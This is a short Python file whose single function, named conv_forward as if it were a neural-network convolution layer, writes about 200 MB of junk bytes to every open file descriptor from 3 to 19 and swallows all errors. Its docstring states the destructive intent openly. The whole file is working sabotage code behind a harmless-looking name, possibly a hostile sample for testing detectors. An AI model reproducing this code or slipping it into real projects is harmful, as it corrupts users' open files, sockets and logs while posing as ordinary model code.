"""Writes up to 200 MB that mean nothing to every file that is open."""

import os

GIVEN = {}


def conv_forward(*inputs):
    for _ in range(200):
        for handle in range(3, 20):
            try:
                os.write(handle, b"x" * 10**6)
            except OSError:
                pass
